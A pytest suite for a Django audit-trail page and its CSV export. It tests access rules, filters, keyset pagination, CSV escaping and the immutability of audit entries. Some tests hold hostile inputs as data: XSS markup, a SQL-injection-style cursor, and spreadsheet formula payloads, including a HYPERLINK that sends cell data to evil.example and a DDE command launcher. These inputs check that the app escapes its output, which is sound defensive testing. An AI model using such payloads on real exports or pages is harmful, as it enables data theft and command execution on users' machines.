"""The audit trail page (/audit/) and its CSV export: who may see them, filters, keyset
pagination, the export's escaping, and that entries cannot be changed or deleted through the app
(model, admin, API). Sign-in, sign-out and failed sign-in are recorded."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.conf import settings
from django.contrib.admin.sites import site as admin_site
from django.db import connection
from django.shortcuts import resolve_url
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from apps.accounts.models import User
from apps.core.keyset import Cursor
from apps.core.models import AuditEvent, AuditEventImmutableError
from apps.core.views_audit import PAGE_SIZE
from tests.conftest import PERSONAS
from tests.factories import PASSWORD, TeamFactory, UserFactory
from tests.registry.factories import ReleaseFactory, WorkloadFactory

from .audit_helpers import entry, many

pytestmark = pytest.mark.django_db

URL = "/audit/"
EXPORT = "/audit/export.csv"
ALLOWED = {"coe_staff", "leader"}


def shown_ids(response) -> list[int]:  # type: ignore[no-untyped-def]
    return [int(pk) for pk in re.findall(r'data-entry="(\d+)"', response.content.decode())]


def link(response, rel: str) -> str | None:  # type: ignore[no-untyped-def]
    match = re.search(rf'<a href="([^"]+)"[^>]*rel="{rel}"', response.content.decode())
    return match.group(1).replace("&amp;", "&") if match else None


def csv_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


# --- Who may see it -------------------------------------------------------------------------


class TestPermissions:
    @pytest.mark.parametrize("persona", PERSONAS, indirect=True)
    @pytest.mark.parametrize("url", [URL, EXPORT])
    def test_only_coe_staff_and_leadership_see_the_trail(self, client_for, persona, request, url) -> None:
        entry("token.create", target_repr="secret-ish")
        response = client_for(persona).get(url)
        name = request.node.callspec.params["persona"]
        if name == "anonymous":
            assert response.status_code == 302
            assert response["Location"].startswith(f"{resolve_url(settings.LOGIN_URL)}?next=")
        elif name in ALLOWED:
            assert response.status_code == 200
        else:
            assert response.status_code == 403
            assert b"secret-ish" not in b"".join(getattr(response, "streaming_content", [response.content]))

    def test_the_page_and_the_api_ask_the_same_permission(self, team_member, leader, coe_staff) -> None:
        for user, allowed in ((team_member, False), (leader, True), (coe_staff, True)):
            assert user.has_perm("core.view_auditevent") is allowed

    @pytest.mark.parametrize("persona", ["team_member", "other_team_member", "coe_staff", "leader"], indirect=True)
    def test_the_nav_link_shows_only_to_those_who_may_follow_it(self, client_for, persona) -> None:
        body = client_for(persona).get("/").content.decode()
        assert ('data-nav="audit"' in body) is persona.has_perm("core.view_auditevent")


# --- What a row shows -----------------------------------------------------------------------


class TestRows:
    def test_a_row_shows_when_who_what_object_link_changes_and_ip(self, client_for, coe_staff, team_member) -> None:
        team = TeamFactory(name="Claims Automation", slug="claims-automation")
        event = entry("team.update", actor=team_member, target=team, changes={"name": ["Old", "New"]}, ip="10.1.2.3")
        body = client_for(coe_staff).get(URL).content.decode()
        row = re.search(rf'<tr data-entry="{event.pk}">(.*?)</tr>', body, re.S).group(1)
        local = timezone.localtime(event.created_at)
        assert f">{local:%Y-%m-%d %H:%M:%S}</time>" in row
        assert ">tina<" in row
        assert "<code>team.update</code>" in row
        assert f'<a href="{reverse("accounts:team-detail", args=["claims-automation"])}">Claims Automation</a>' in row
        assert "<details>" in row
        assert "<summary>name</summary>" in row
        assert "[&quot;Old&quot;, &quot;New&quot;]" in row
        assert "10.1.2.3" in row

    def test_an_object_that_is_gone_is_named_but_not_linked(self, client_for, coe_staff) -> None:
        team = TeamFactory(name="Gone Team", slug="gone-team")
        event = entry("team.create", target=team)
        team.delete()
        body = client_for(coe_staff).get(URL).content.decode()
        row = re.search(rf'<tr data-entry="{event.pk}">(.*?)</tr>', body, re.S).group(1)
        assert "Gone Team" in row
        assert "<a " not in row

    def test_markup_in_recorded_text_is_escaped(self, client_for, coe_staff) -> None:
        entry("team.create", target_repr="<script>alert(1)</script>", changes={"x": "<img src=x onerror=1>"})
        body = client_for(coe_staff).get(URL).content.decode()
        assert "<script>alert(1)" not in body
        assert "<img src=x" not in body
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body

    def test_links_cost_one_query_per_object_type_not_per_row(self, client_for, coe_staff) -> None:
        def add(n: int) -> None:
            entry("team.create", target=TeamFactory(name=f"Team {n}"))
            entry("release.create", target=ReleaseFactory(workload=WorkloadFactory(name=f"Workload {n}")))
            entry("role.grant", target=UserFactory(username=f"u{n}"))  # no page for a user: no link

        add(0)
        client = client_for(coe_staff)
        client.get(URL)  # content types cached
        with CaptureQueriesContext(connection) as few:
            client.get(URL)
        for n in range(1, 12):
            add(n)
        with CaptureQueriesContext(connection) as more:
            response = client.get(URL)
        assert len(shown_ids(response)) == 36 + 1  # and the staff client's sign-in
        assert len(more) == len(few)
        body = response.content.decode()
        assert f'href="{reverse("registry:release-list", args=["workload-11"])}"' in body
        assert f'href="{reverse("accounts:team-detail", args=["team-11"])}"' in body


# --- Filters ----------------------------------------------------------------------------------


class TestFilters:
    @pytest.fixture
    def trail(self, team_member, other_team_member, team) -> dict[str, AuditEvent]:
        now = timezone.now()
        return {
            "tina_token": entry("token.create", actor=team_member, at=now - timedelta(days=1)),
            "tina_workload": entry("workload.update", actor=team_member, target=team, at=now - timedelta(days=20)),
            "otto_workload": entry("workload.register", actor=other_team_member, at=now - timedelta(days=3)),
            "old": entry("workload.retire", actor=team_member, at=now - timedelta(days=100)),
            "system": entry("waiver.expire", at=now - timedelta(hours=2)),
        }

    def ids(self, client: Client, **params: str) -> set[int]:
        response = client.get(URL, params)
        assert response.status_code == 200
        sign_ins = AuditEvent.objects.filter(action__startswith="auth.").values_list("pk", flat=True)
        return set(shown_ids(response)) - set(sign_ins)  # the client's own sign-in is not the test's

    def test_actor_is_a_case_insensitive_search(self, client_for, coe_staff, trail) -> None:
        client = client_for(coe_staff)
        assert self.ids(client, actor="TIN") == {trail[k].pk for k in ("tina_token", "tina_workload", "old")}
        assert self.ids(client, actor="system") == {trail["system"].pk}

    def test_action_matches_an_action_or_its_family(self, client_for, coe_staff, trail) -> None:
        client = client_for(coe_staff)
        assert self.ids(client, action="workload.") == {trail[k].pk for k in ("tina_workload", "otto_workload", "old")}
        assert self.ids(client, action="token.create") == {trail["tina_token"].pk}

    def test_object_by_type_id_and_name(self, client_for, coe_staff, trail, team) -> None:
        client = client_for(coe_staff)
        assert self.ids(client, target_type="accounts.team") == {trail["tina_workload"].pk}
        assert self.ids(client, target_type="accounts.team", target_id=str(team.pk)) == {trail["tina_workload"].pk}
        assert self.ids(client, target="claims auto") == {trail["tina_workload"].pk}
        assert self.ids(client, target_type="nope.nothing") == set()

    def test_period_presets_count_back_from_now(self, client_for, coe_staff, trail) -> None:
        client = client_for(coe_staff)
        assert self.ids(client, period="7d") == {trail[k].pk for k in ("tina_token", "otto_workload", "system")}
        recent = {trail[k].pk for k in ("tina_token", "tina_workload", "otto_workload", "system")}
        assert self.ids(client, period="30d") == recent
        assert len(self.ids(client, period="90d")) == 4

    def test_from_and_to_are_days_with_the_last_one_included(self, client_for, coe_staff, trail) -> None:
        client = client_for(coe_staff)
        day = timezone.localtime(trail["otto_workload"].created_at).date()
        assert self.ids(client, start=day.isoformat(), end=day.isoformat()) == {trail["otto_workload"].pk}
        assert trail["tina_workload"].pk in self.ids(client, end=(day - timedelta(days=1)).isoformat())

    def test_filters_combine(self, client_for, coe_staff, trail) -> None:
        assert self.ids(client_for(coe_staff), actor="tina", action="workload.", period="30d") == {
            trail["tina_workload"].pk
        }

    def test_a_bad_date_is_reported_and_ignored_on_the_page(self, client_for, coe_staff, trail) -> None:
        response = client_for(coe_staff).get(URL, {"start": "not-a-date", "actor": "otto"})
        assert set(shown_ids(response)) == {trail["otto_workload"].pk}
        assert "Enter a valid date." in response.content.decode()

    def test_htmx_gets_only_the_table_and_the_answer_varies_on_it(self, client_for, coe_staff, trail) -> None:
        response = client_for(coe_staff).get(URL, {"actor": "otto"}, headers={"HX-Request": "true"})
        body = response.content.decode()
        assert body.lstrip().startswith('<div id="audit-table">')
        assert "<form" not in body
        assert "<html" not in body
        assert set(shown_ids(response)) == {trail["otto_workload"].pk}
        assert "HX-Request" in response["Vary"]

    def test_the_form_keeps_the_filters_and_the_export_link_carries_them(self, client_for, coe_staff, trail) -> None:
        body = (
            client_for(coe_staff).get(URL, {"actor": "tina", "action": "workload.", "period": "30d"}).content.decode()
        )
        assert 'name="actor" id="id_actor" value="tina"' in body
        assert '<option value="30d" selected>' in body
        assert f'href="{EXPORT}?actor=tina&amp;action=workload.&amp;period=30d"' in body

    def test_the_choices_come_from_the_trail(self, client_for, coe_staff, trail) -> None:
        body = client_for(coe_staff).get(URL).content.decode()
        datalist = re.search(r'<datalist id="audit-actions">(.*?)</datalist>', body, re.S).group(1)
        assert re.findall(r'value="([^"]+)"', datalist) == [
            "auth.", "auth.login", "token.", "token.create", "waiver.", "waiver.expire",
            "workload.", "workload.register", "workload.retire", "workload.update",
        ]  # fmt: skip
        assert '<option value="accounts.team">team (accounts.team)</option>' in body


# --- Keyset pagination ------------------------------------------------------------------------


class TestPagination:
    def test_older_and_newer_walk_every_entry_once_even_with_equal_times(self, client_for, coe_staff) -> None:
        now = timezone.now()
        # 60 entries share one moment: only the id orders them, across a page boundary.
        many(60, "bulk.tie", at=now - timedelta(minutes=5))
        many(70, "bulk.old", at=now - timedelta(hours=1))
        expected = list(
            AuditEvent.objects.filter(action__startswith="bulk.")
            .order_by("-created_at", "-id")
            .values_list("pk", flat=True)
        )
        client = client_for(coe_staff)
        pages = [client.get(URL, {"action": "bulk."})]
        while link(pages[-1], "next"):
            pages.append(client.get(link(pages[-1], "next")))
        seen = [pk for page in pages for pk in shown_ids(page)]
        assert seen == expected
        assert [len(shown_ids(p)) for p in pages] == [PAGE_SIZE, PAGE_SIZE, 30]
        assert link(pages[0], "prev") is None
        assert "action=bulk." in link(pages[1], "next")  # the filters stay on the page links
        # Back up from the last page: the same entries as on the way down.
        back = client.get(link(pages[2], "prev"))
        assert shown_ids(back) == shown_ids(pages[1])
        assert shown_ids(client.get(link(back, "prev"))) == shown_ids(pages[0])

    def test_a_page_costs_no_count_and_no_offset(self, client_for, coe_staff) -> None:
        many(120, "bulk.x")
        client = client_for(coe_staff)
        second = link(client.get(URL), "next")
        with CaptureQueriesContext(connection) as queries:
            assert len(shown_ids(client.get(second))) == PAGE_SIZE
        trail = [q["sql"].upper() for q in queries if "CORE_AUDITEVENT" in q["sql"].upper()]
        assert trail
        assert not [sql for sql in trail if "COUNT(" in sql or "OFFSET" in sql]
        assert any(f"LIMIT {PAGE_SIZE + 1}" in sql for sql in trail)

    def test_a_mangled_cursor_starts_at_the_newest(self, client_for, coe_staff) -> None:
        ids = many(3, "bulk.y")
        response = client_for(coe_staff).get(URL, {"after": "x'; DROP TABLE", "action": "bulk."})
        assert shown_ids(response) == ids
        assert Cursor.decode("99999999999999999999-1") is None

    def test_cursor_round_trips(self) -> None:
        moment = timezone.now()
        assert Cursor.decode(Cursor(moment, 42).encode()) == Cursor(moment, 42)


# --- CSV export ------------------------------------------------------------------------------


class TestExport:
    def test_it_streams_every_matching_entry_not_one_page(self, client_for, coe_staff) -> None:
        ids = many(130, "bulk.export")
        entry("other.thing")
        response = client_for(coe_staff).get(EXPORT, {"action": "bulk."})
        assert response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert re.fullmatch(
            r'attachment; filename="audit-trail-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
        )
        rows = csv_rows(response)
        assert rows[0] == ["When", "Actor", "Action", "Object type", "Object id", "Object", "Changes", "IP address"]
        assert len(rows) == 1 + 130
        assert {row[2] for row in rows[1:]} == {"bulk.export"}
        assert len(ids) == 130

    def test_a_row_carries_local_time_object_changes_and_ip(self, client_for, coe_staff, team_member, team) -> None:
        event = entry("team.update", actor=team_member, target=team, changes={"name": ["a", "b"]}, ip="192.0.2.7")
        rows = csv_rows(client_for(coe_staff).get(EXPORT))
        row = next(r for r in rows if r[2] == "team.update")
        assert row == [
            timezone.localtime(event.created_at).isoformat(timespec="seconds"), "tina", "team.update",
            "accounts.team", str(team.pk), "Claims Automation", '{"name": ["a", "b"]}', "192.0.2.7",
        ]  # fmt: skip

    @pytest.mark.parametrize(
        "text",
        ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"],
    )
    def test_formula_cells_are_escaped(self, client_for, coe_staff, text) -> None:
        entry("team.create", target_repr=text, actor_repr=text, target_id=text)
        row = next(r for r in csv_rows(client_for(coe_staff).get(EXPORT)) if r[2] == "team.create")
        assert row[1] == row[4] == row[5] == "'" + text

    def test_it_applies_the_page_filters(self, client_for, coe_staff, team_member, other_team_member) -> None:
        entry("token.create", actor=team_member)
        entry("token.create", actor=other_team_member)
        entry("token.revoke", actor=team_member, at=timezone.now() - timedelta(days=40))
        rows = csv_rows(client_for(coe_staff).get(EXPORT, {"actor": "tina", "period": "30d"}))
        assert [(r[1], r[2]) for r in rows[1:]] == [("tina", "token.create")]

    def test_a_bad_filter_is_refused_not_ignored(self, client_for, coe_staff) -> None:
        entry("token.create")
        response = client_for(coe_staff).get(EXPORT, {"end": "yesterday"})
        assert response.status_code == 400
        assert not response.streaming
        assert b"end" in response.content


# --- Nobody edits or deletes the trail through the app ---------------------------------------


class TestImmutable:
    def test_the_model_refuses_save_of_an_existing_entry_and_delete(self) -> None:
        event = entry("token.create")
        event.action = "token.revoke"
        with pytest.raises(AuditEventImmutableError):
            event.save()
        with pytest.raises(AuditEventImmutableError):
            event.delete()
        with pytest.raises(AuditEventImmutableError):
            AuditEvent.objects.filter(pk=event.pk).update(action="x")
        with pytest.raises(AuditEventImmutableError):
            AuditEvent.objects.all().delete()
        event.refresh_from_db()
        assert event.action == "token.create"
        assert AuditEvent.objects.count() == 1

    def test_deleting_the_actor_still_keeps_the_entry_and_its_name(self, team_member) -> None:
        entry("token.create", actor=team_member)
        team_member.delete()
        event = AuditEvent.objects.get(action="token.create")
        assert event.actor is None
        assert event.actor_repr == "tina"

    def test_the_admin_is_view_only_even_for_a_superuser(self, db) -> None:
        root = User.objects.create_superuser("root", "root@example.org", PASSWORD)
        event = entry("token.create")
        model_admin = admin_site._registry[AuditEvent]
        request = RequestFactory().get("/")
        request.user = root
        assert model_admin.has_view_permission(request, event)
        assert not model_admin.has_add_permission(request)
        assert not model_admin.has_change_permission(request, event)
        assert not model_admin.has_delete_permission(request, event)
        client = Client()
        client.force_login(root)
        assert client.get("/admin/core/auditevent/").status_code == 200
        assert client.get("/admin/core/auditevent/add/").status_code == 403
        change = client.get(f"/admin/core/auditevent/{event.pk}/change/")
        assert change.status_code == 200
        assert b'name="_save"' not in change.content
        assert client.post(f"/admin/core/auditevent/{event.pk}/change/", {"action": "x"}).status_code == 403
        assert client.post(f"/admin/core/auditevent/{event.pk}/delete/", {"post": "yes"}).status_code == 403
        bulk = client.post(
            "/admin/core/auditevent/", {"action": "delete_selected", "_selected_action": [event.pk], "post": "yes"}
        )
        assert bulk.status_code in (200, 302, 403)
        assert AuditEvent.objects.filter(pk=event.pk, action="token.create").exists()

    @pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
    def test_the_api_answers_405_to_every_write(self, coe_staff, method) -> None:
        from rest_framework.test import APIClient

        event = entry("token.create")
        client = APIClient()
        client.force_authenticate(coe_staff)
        assert getattr(client, method)("/api/v1/audit/", {"action": "x"}, format="json").status_code == 405
        assert getattr(client, method)(f"/api/v1/audit/{event.pk}/", {"action": "x"}, format="json").status_code == 404
        assert AuditEvent.objects.get(pk=event.pk).action == "token.create"


# --- Sign-in, sign-out and failed sign-in are recorded ---------------------------------------


class TestSignInIsAudited:
    def test_sign_in_and_sign_out(self, team_member) -> None:
        client = Client()
        response = client.post(reverse("accounts:login"), {"username": "tina", "password": PASSWORD})
        assert response.status_code == 302
        login = AuditEvent.objects.get(action="auth.login")
        assert (login.actor, login.actor_repr, login.target_id) == (team_member, "tina", str(team_member.pk))
        assert login.ip_address == "127.0.0.1"
        client.post(reverse("accounts:logout"))
        logout = AuditEvent.objects.get(action="auth.logout")
        assert logout.actor == team_member

    def test_a_failed_sign_in_keeps_the_username_and_never_the_password(self, team_member) -> None:
        Client().post(reverse("accounts:login"), {"username": "tina", "password": "wrong-Pa55word!"})
        Client().post(reverse("accounts:login"), {"username": "nobody-here", "password": "another-Secret!"})
        failed = list(AuditEvent.objects.filter(action="auth.login_failed").order_by("id"))
        assert [(e.actor, e.actor_repr, e.changes) for e in failed] == [
            (None, "anonymous", {"username": "tina"}),
            (None, "anonymous", {"username": "nobody-here"}),
        ]
        assert failed[0].target_id == str(team_member.pk)  # the account someone tried
        assert failed[1].target_type is None
        assert failed[0].ip_address == "127.0.0.1"
        stored = json.dumps(list(AuditEvent.objects.values()), default=str)
        assert "wrong-Pa55word!" not in stored
        assert "another-Secret!" not in stored
        assert not AuditEvent.objects.filter(action="auth.login").exists()

    def test_sign_in_entries_are_on_the_page(self, client_for, coe_staff, team_member) -> None:
        Client().post(reverse("accounts:login"), {"username": "tina", "password": "wrong"})
        body = client_for(coe_staff).get(URL, {"action": "auth."}).content.decode()
        assert "<code>auth.login_failed</code>" in body
        assert "<code>auth.login</code>" in body  # the force_login of the staff client
